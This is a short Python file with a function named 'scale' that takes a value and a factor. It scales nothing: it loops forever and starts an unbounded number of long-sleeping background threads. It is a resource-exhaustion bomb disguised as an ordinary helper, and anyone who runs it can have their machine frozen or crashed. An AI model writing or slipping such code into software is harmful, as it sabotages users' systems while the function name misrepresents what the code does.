import threading
import time


def scale(x, factor):
    while True:
        threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
